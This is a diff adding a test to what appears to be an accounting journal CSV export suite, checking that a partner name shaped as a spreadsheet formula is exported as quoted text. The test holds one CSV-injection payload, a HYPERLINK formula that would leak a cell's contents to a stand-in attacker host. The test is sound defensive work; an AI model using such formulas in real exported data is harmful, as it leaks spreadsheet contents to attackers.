@@ -75,6 +75,19 @@ class TestLuJournalExport(LuCloseCase):
         # rows come in date order, and no draft
         self.assertEqual([r["date"] for r in rows], sorted(r["date"] for r in rows))
 
+    def test_hostile_cells_are_not_formulas(self):
+        """A buyer named like a spreadsheet formula (CSV injection) is exported as
+        text; negative amounts stay numbers."""
+        hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Refund")'
+        self.ic_sale.partner_id.name = hostile
+        rows = [
+            r for r in self._csv_rows(self.export) if r["entry"] == self.ic_sale.name
+        ]
+        self.assertTrue(rows)
+        partners = {row["partner"] for row in rows if row["partner"]}
+        self.assertEqual(partners, {"'" + hostile})
+        self.assertIn("-300.00", [row["balance"] for row in rows])
+
     def test_streams_in_batches(self):
         with patch.object(lu_journal_export, "BATCH_SIZE", 3):
             rows = list(self.export._iter_rows())
